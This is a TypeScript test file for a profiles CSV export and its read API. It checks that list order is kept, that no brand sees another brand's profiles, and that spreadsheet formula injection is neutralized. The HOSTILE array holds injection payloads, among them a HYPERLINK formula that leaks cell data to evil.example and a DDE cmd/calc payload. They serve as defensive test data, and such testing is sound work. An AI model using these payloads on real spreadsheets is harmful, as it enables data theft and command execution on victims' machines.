// The Profiles list's CSV export and its read-API routes over the real DuckDB
// warehouse and brand registry: every matching profile in the list's order
// across many warehouse pages, hostile identifiers neutralized for
// spreadsheets, and never another brand's profile.
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { Hono } from 'hono';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createBrandRegistry } from '../../../ingest/brands/registry';
import type { BrandCredentials } from '../../../ingest/brands/types';
import { createDuckDbWarehouse } from '../../../ingest/warehouse/duckdb/index';
import type { Warehouse, WarehouseReader } from '../../../ingest/warehouse/types';
import { createReadApi } from '../../../src/lib/server/api/app';
import type { ProfilesListBody } from '../../../src/lib/server/api/responses';
import {
  PROFILE_EXPORT_COLUMNS,
  exportProfilesCsv,
  profilesCsv,
} from '../../../src/lib/server/profiles-export';
import type { Profile } from '../../../src/lib/shared/model';
import { at, commit, link, profile } from '../../contract/warehouse-records';

const A = 'brand-a';
const B = 'brand-b';
/** Identifier values a spreadsheet would run, or that break naive CSV. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,1)',
  '\tleading-tab',
  '\rleading-cr',
  '＝fullwidth',
  'comma, "quote" and\nnewline',
];

function brandAProfiles(): Profile[] {
  const hostile = HOSTILE.map((value, i) =>
    profile(A, `h${i}`, {
      identifiers: [{ type: 'user_id', value }],
      revenue: 100 + i,
      last_seen: at(i),
    }),
  );
  const plain = Array.from({ length: 9 }, (_, i) =>
    profile(A, `p${i}`, {
      identifiers: [
        { type: 'email', value: `p${i}@example.com` },
        { type: 'phone', value: `+4915100000${i}` },
      ],
      revenue: i % 3, // ties, broken by id
      orders: i % 3,
      intent_score: i * 10,
      categories: i === 0 ? {} : { shoes: i },
      last_seen: at(20 + i),
    }),
  );
  return [...hostile, ...plain];
}

let dir: string;
let warehouse: Warehouse;
let edge: Hono;
let a: BrandCredentials;
let b: BrandCredentials;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'profiles-export-'));
  const brands = await createBrandRegistry({ file: join(dir, 'brands.json') });
  a = await brands.create(A, 'Brand A');
  b = await brands.create(B, 'Brand B');
  warehouse = await createDuckDbWarehouse({ path: ':memory:' });
  await warehouse.migrate();
  const profilesA = brandAProfiles();
  await warehouse.commit(
    commit(
      { consumer: 'test', partition: 0, next_offset: 1 },
      {
        profiles: [
          ...profilesA,
          // Merged into p1: never listed on its own.
          profile(A, 'merged', { merged_into: 'p1', revenue: 1e6 }),
          // Brand B holds the same email as A's p1 and a higher revenue than anyone.
          profile(B, 'b-rich', { revenue: 1e9, identifiers: [{ type: 'email', value: 'p1@example.com' }] }),
          profile(B, 'h0-of-b', { revenue: 5, identifiers: [{ type: 'user_id', value: HOSTILE[0]! }] }),
        ],
        links: [
          ...profilesA.flatMap((p) =>
            p.identifiers.map((id) => link(A, id.value, p.profile_id, { type: id.type })),
          ),
          link(B, 'p1@example.com', 'b-rich'),
        ],
      },
    ),
  );
  edge = new Hono();
  edge.route(
    '/api',
    createReadApi({
      warehouse,
      brands,
      sessionSecret: 'profiles-export-test-secret-0123456789',
      pending: async () => 0,
    }),
  );
});

afterAll(async () => {
  await warehouse.close();
  await rm(dir, { recursive: true, force: true });
});

async function text(stream: ReadableStream<Uint8Array>): Promise<string> {
  return new Response(stream).text();
}

const rowsOf = (csv: string): Record<string, string>[] => parse(csv, { columns: true, relax_quotes: false });

/** Every page of the list through the reader, the order the export must keep. */
async function listed(brandId: string, sort: 'revenue' | 'intent' | 'last_seen', search = '') {
  const ids: string[] = [];
  let cursor: string | undefined;
  do {
    const page = await warehouse.profilesPage(brandId, {
      sort,
      limit: 200,
      search,
      ...(cursor ? { cursor } : {}),
    });
    ids.push(...page.profiles.map((p) => p.profile_id));
    cursor = page.next ?? undefined;
  } while (cursor);
  return ids;
}

describe('profilesCsv', () => {
  it('prefixes formula-looking cells with a single quote and keeps numbers as numbers', () => {
    const hostile = HOSTILE.map((value, i) =>
      profile(A, `x${i}`, { identifiers: [{ type: 'user_id', value }] }),
    );
    const rows = rowsOf(profilesCsv(hostile, true));
    expect(rows.map((row) => row.customer_ids)).toEqual([
      `'${HOSTILE[0]}`,
      `'${HOSTILE[1]}`,
      `'${HOSTILE[2]}`,
      `'${HOSTILE[3]}`,
      `'${HOSTILE[4]}`,
      `'${HOSTILE[5]}`,
      `'${HOSTILE[6]}`,
      // Not a formula: kept as it is, quoted by CSV rules.
      HOSTILE[7],
    ]);
    // The label is the same text, neutralized the same way.
    expect(rows[0]!.label).toBe(`'${HOSTILE[0]}`);
    const negative = rowsOf(profilesCsv([profile(A, 'n', { revenue: -5, orders: 0 })], true))[0]!;
    expect(negative.revenue).toBe('-5');
  });

  it('writes the documented columns, identifiers of a type joined by a space', () => {
    const csv = profilesCsv(
      [
        profile(A, 'p', {
          identifiers: [
            { type: 'email', value: 'x@example.com' },
            { type: 'email', value: 'y@example.com' },
            { type: 'loyalty_id', value: 'L-1' },
          ],
          orders: 4,
          revenue: 10,
          channels: ['web', 'store'],
          categories: { bags: 1, shoes: 3 },
        }),
      ],
      true,
    );
    expect(csv.split('\r\n')[0]).toBe(PROFILE_EXPORT_COLUMNS.map(([name]) => name).join(','));
    expect(rowsOf(csv)[0]).toMatchObject({
      profile_id: 'p',
      label: 'x@example.com',
      emails: 'x@example.com y@example.com',
      phones: '',
      loyalty_ids: 'L-1',
      orders: '4',
      revenue: '10',
      aov: '2.5',
      top_category: 'shoes',
      channels: 'web store',
    });
  });
});

describe('exportProfilesCsv', () => {
  it.each(['revenue', 'intent', 'last_seen'] as const)(
    'by %s: every survivor of the brand once, in the list order, across chunks of 4',
    async (sort) => {
      const csv = await text(
        await exportProfilesCsv(warehouse, A, { sort, search: '', chunkSize: 4, country: 'US' }),
      );
      const ids = rowsOf(csv).map((row) => row.profile_id);
      expect(ids).toEqual(await listed(A, sort));
      expect(ids).toHaveLength(HOSTILE.length + 9);
      expect(ids).not.toContain('merged');
      expect(ids).not.toContain('b-rich');
      expect(ids).not.toContain('h0-of-b');
    },
  );

  it('exports only what the search matches, for the brand that asks', async () => {
    const mine = rowsOf(
      await text(
        await exportProfilesCsv(warehouse, A, { sort: 'revenue', search: 'p1@example.com', country: 'US' }),
      ),
    );
    expect(mine.map((row) => row.profile_id)).toEqual(['p1']);
    const theirs = rowsOf(
      await text(
        await exportProfilesCsv(warehouse, B, { sort: 'revenue', search: 'p1@example.com', country: 'US' }),
      ),
    );
    expect(theirs.map((row) => row.profile_id)).toEqual(['b-rich']);
    const byHostile = rowsOf(
      await text(
        await exportProfilesCsv(warehouse, A, { sort: 'revenue', search: HOSTILE[0]!, country: 'US' }),
      ),
    );
    expect(byHostile.map((row) => [row.profile_id, row.customer_ids])).toEqual([['h0', `'${HOSTILE[0]}`]]);
  });

  it('writes the header alone when nothing matches', async () => {
    const csv = await text(
      await exportProfilesCsv(warehouse, A, { sort: 'intent', search: 'nobody@example.com', country: 'US' }),
    );
    expect(csv).toBe(`${PROFILE_EXPORT_COLUMNS.map(([name]) => name).join(',')}\r\n`);
  });

  it('reads the next chunk only when the client takes the one before, and stops the query on cancel', async () => {
    let pulls = 0;
    let stopped = false;
    const counting: WarehouseReader = {
      ...warehouse,
      profilesExport: (brandId, query) => ({
        [Symbol.asyncIterator]() {
          const inner = warehouse.profilesExport(brandId, query)[Symbol.asyncIterator]();
          return {
            next: () => {
              pulls += 1;
              return inner.next();
            },
            return: async () => {
              stopped = true;
              return (await inner.return?.()) ?? { done: true, value: undefined };
            },
          };
        },
      }),
    };
    const stream = await exportProfilesCsv(counting, A, {
      sort: 'revenue',
      search: '',
      chunkSize: 2,
      country: 'US',
    });
    const reader = stream.getReader();
    expect(pulls).toBe(1);
    const first = await reader.read();
    expect(rowsOf(new TextDecoder().decode(first.value)).map((row) => row.profile_id)).toEqual(
      (await listed(A, 'revenue')).slice(0, 2),
    );
    expect(pulls).toBe(1);
    await reader.read();
    expect(pulls).toBe(2);
    await reader.cancel();
    expect(pulls).toBe(2);
    expect(stopped).toBe(true);
    // The warehouse is free for the next read, and B still sees only its own.
    expect(
      (await warehouse.profilesPage(B, { sort: 'revenue', limit: 10 })).profiles.map((p) => p.profile_id),
    ).toEqual(['b-rich', 'h0-of-b']);
  });
});

describe('read API: /v1/profiles and /v1/profiles/export', () => {
  const bearer = (key: string) => ({ authorization: `Bearer ${key}` });

  it('exports the caller brand only, as an attachment', async () => {
    const response = await edge.request('/api/v1/profiles/export?sort=revenue', {
      headers: bearer(b.read_key),
    });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(
      /^attachment; filename="profiles-brand-b-revenue-/,
    );
    const ids = rowsOf(await response.text()).map((row) => row.profile_id);
    expect(ids).toEqual(['b-rich', 'h0-of-b']);
  });

  it('lists a page with the next cursor, and follows it', async () => {
    const first = await edge.request('/api/v1/profiles?sort=intent&limit=5', { headers: bearer(a.read_key) });
    const body = (await first.json()) as ProfilesListBody;
    expect(body.profiles.map((row) => row.profile_id)).toEqual((await listed(A, 'intent')).slice(0, 5));
    expect(body.profiles[0]).toMatchObject({ label: 'p8@example.com', intent_level: 'medium' });
    const second = await edge.request(`/api/v1/profiles?sort=intent&limit=5&cursor=${body.next}`, {
      headers: bearer(a.read_key),
    });
    const next = (await second.json()) as ProfilesListBody;
    expect(next.profiles.map((row) => row.profile_id)).toEqual((await listed(A, 'intent')).slice(5, 10));
  });

  it('answers a bad parameter or a foreign cursor with 400 naming it, and no credential with 401', async () => {
    const cases: [string, RegExp][] = [
      ['/api/v1/profiles?sort=price', /sort must be one of/],
      ['/api/v1/profiles?limit=500', /limit must be a whole number from 1 to 200/],
      ['/api/v1/profiles?cursor=eyJ2IjoxfQ', /invalid profiles cursor/],
      ['/api/v1/profiles/export?sort=revenue%27', /sort must be one of/],
      [`/api/v1/profiles/export?search=${'x'.repeat(300)}`, /longer than 256/],
    ];
    for (const [path, problem] of cases) {
      const response = await edge.request(path, { headers: bearer(a.read_key) });
      expect(response.status, path).toBe(400);
      expect(((await response.json()) as { error: string }).error).toMatch(problem);
    }
    // A cursor made by the revenue list is refused by the intent list.
    const page = (await (
      await edge.request('/api/v1/profiles?limit=1', { headers: bearer(a.read_key) })
    ).json()) as ProfilesListBody;
    const foreign = await edge.request(`/api/v1/profiles?sort=intent&cursor=${page.next}`, {
      headers: bearer(a.read_key),
    });
    expect(foreign.status).toBe(400);
    expect((await edge.request('/api/v1/profiles/export')).status).toBe(401);
    expect((await edge.request('/api/v1/profiles')).status).toBe(401);
  });
});
